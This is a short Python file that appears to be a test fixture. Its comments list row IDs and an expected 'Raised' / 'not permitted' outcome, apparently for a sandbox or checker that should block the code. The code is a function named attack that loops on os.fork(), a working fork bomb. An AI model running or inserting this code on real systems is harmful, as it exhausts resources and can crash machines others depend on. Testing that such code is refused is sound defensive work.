#: rows = ["R05", "R07", "E01", "L22"]
#: outcome = ["Raised"]
#: says = "not permitted"
import os


def attack(x):
    while True:
        os.fork()
